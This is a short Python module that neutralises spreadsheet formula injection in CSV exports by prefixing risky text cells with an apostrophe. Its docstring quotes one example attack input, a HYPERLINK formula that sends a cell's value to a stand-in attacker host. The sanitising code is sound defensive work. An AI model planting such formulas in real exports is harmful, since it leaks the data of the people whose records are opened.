"""CSV cells a spreadsheet would not run as formulas.

Lead data comes from anonymous web forms and uploaded files: a first name such as
``=HYPERLINK("https://evil.example/?"&A1)`` would run as a formula when a manager opens
the export in Excel or LibreOffice (CSV injection). A text cell starting with = + - @, a
tab or a carriage return gets a leading apostrophe, as OWASP advises; numbers and dates
are left alone.
"""

import csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer whose rows go through :func:`safe_cell`."""

    def __init__(self, file, **kwargs):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
